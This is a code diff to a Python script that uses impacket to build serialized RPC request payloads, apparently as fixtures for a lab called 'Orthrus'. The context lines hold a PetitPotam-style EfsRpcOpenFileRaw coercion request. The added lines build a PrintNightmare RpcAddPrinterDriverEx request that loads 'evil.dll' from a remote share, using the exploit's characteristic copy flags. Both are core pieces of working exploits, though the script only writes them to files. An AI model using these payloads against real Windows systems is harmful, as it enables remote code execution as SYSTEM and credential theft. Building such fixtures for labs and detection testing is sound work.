@@ -105,3 +105,22 @@ req = EfsRpcOpenFileRaw()
 req['FileName'] = '\\\\10.99.0.21\\share\\file.txt\x00'
 req['Flag'] = 0
 open('efsr_openfileraw.bin', 'wb').write(req.getData())
+
+# PrintNightmare's RpcAddPrinterDriverEx: DRIVER_INFO_2 with a data file on another host.
+from impacket.dcerpc.v5 import rprn
+
+req = rprn.RpcAddPrinterDriverEx()
+req['pName'] = '\\\\10.99.0.10\x00'
+container = rprn.DRIVER_CONTAINER()
+container['Level'] = 2
+container['DriverInfo']['tag'] = 2
+info = container['DriverInfo']['Level2']
+info['cVersion'] = 3
+info['pName'] = 'Orthrus Lab Driver\x00'
+info['pEnvironment'] = 'Windows x64\x00'
+info['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
+info['pDataFile'] = '\\\\10.99.0.21\\share\\evil.dll\x00'
+info['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll\x00'
+req['pDriverContainer'] = container
+req['dwFileCopyFlags'] = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000
+open('rprn_addprinterdriverex.bin', 'wb').write(req.getData())
